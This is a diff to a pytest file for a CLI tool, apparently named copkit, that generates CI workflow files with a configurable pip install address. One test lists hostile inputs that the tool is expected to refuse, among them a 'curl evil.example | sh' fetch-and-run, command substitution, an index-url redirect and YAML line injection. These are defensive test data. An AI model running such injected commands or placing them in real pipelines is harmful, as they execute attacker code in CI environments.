@@ -5,9 +5,11 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
 import yaml
 
 from copkit.cli.index_tree import IndexTree
+from copkit.cli.installed_from import source_of
 from copkit.workspace import Folder, load
 from tests.notes.conftest import NOTES, SAMPLE, git
 from tests.shell import ROOT, copkit
@@ -105,8 +107,57 @@ def test_workflow_files_are_added_once_and_are_yaml(home: Path) -> None:
     assert [step.get("run") for step in steps][-1] == "copkit check --format github"
     assert steps[0]["with"]["fetch-depth"] == 0
     assert github[True] == {"push": None, "pull_request": None}, "YAML 1.1 reads “on” as true"
-    assert gitlab["copkit"]["script"][-1] == "copkit check"
+    assert gitlab["copkit"]["script"] == ['pip install --quiet "copkit"', "copkit check"]
+    assert "add --install ADDRESS" in ran.err
     (home / names[1]).write_text("mine: {script: [echo]}\n")
     again = copkit("init", home, "--ci")
     assert again.code == 0
     assert (home / names[1]).read_text() == "mine: {script: [echo]}\n"
+
+
+@pytest.mark.parametrize(
+    "address", ["git+https://code.example/team/copkit.git@v1.0.0", "./tools/copkit-1.0.0-py3-none-any.whl"]
+)
+def test_workflow_files_take_copkit_from_where_it_is_said(home: Path, address: str) -> None:
+    ran = copkit("init", home, "--ci", "--install", address)
+    assert (ran.code, ran.err) == (0, "")
+    github = yaml.safe_load((home / ".github/workflows/copkit.yml").read_text())
+    gitlab = yaml.safe_load((home / ".gitlab-ci.yml").read_text())
+    assert github["jobs"]["check"]["steps"][-2]["run"] == f'pip install "{address}"'
+    assert gitlab["copkit"]["script"][0] == f'pip install --quiet "{address}"'
+
+
+@pytest.mark.parametrize(
+    ("address", "said"),
+    [
+        ("copkit; curl evil.example | sh", "pip cannot install"),
+        ("$(id)", "pip cannot install"),
+        ("--index-url=https://evil.example", "pip cannot install"),
+        ('x"\n- run: id', "pip cannot install"),
+        ("git+https://sam:secret@code.example/copkit.git", "holds a password"),
+        ("git+https://ghp_secret@code.example/copkit.git", "holds a password"),
+    ],
+)
+def test_what_is_no_address_or_would_tell_a_password_is_refused(home: Path, address: str, said: str) -> None:
+    ran = copkit("init", home, "--ci", f"--install={address}")
+    assert ran.code == 2
+    assert said in ran.err
+    assert not (home / ".gitlab-ci.yml").exists()
+
+
+@pytest.mark.parametrize(
+    ("noted", "source"),
+    [
+        (
+            {"url": "https://code.example/copkit.git", "vcs_info": {"vcs": "git", "commit_id": "a1b2"}},
+            "git+https://code.example/copkit.git@a1b2",
+        ),
+        ({"url": "https://code.example/copkit.whl", "archive_info": {}}, "https://code.example/copkit.whl"),
+        ({"url": "file:///home/sam/copkit", "dir_info": {"editable": True}}, ""),
+        ({"url": "file:///home/sam/copkit", "vcs_info": {"vcs": "git", "commit_id": "a1b2"}}, ""),
+        ({"url": "https://t0ken@code.example/c.git", "vcs_info": {"vcs": "git", "commit_id": "a1b2"}}, ""),
+        ([], ""),
+    ],
+)
+def test_where_copkit_was_installed_from_is_used_where_others_reach_it(noted: object, source: str) -> None:
+    assert source_of(noted) == source
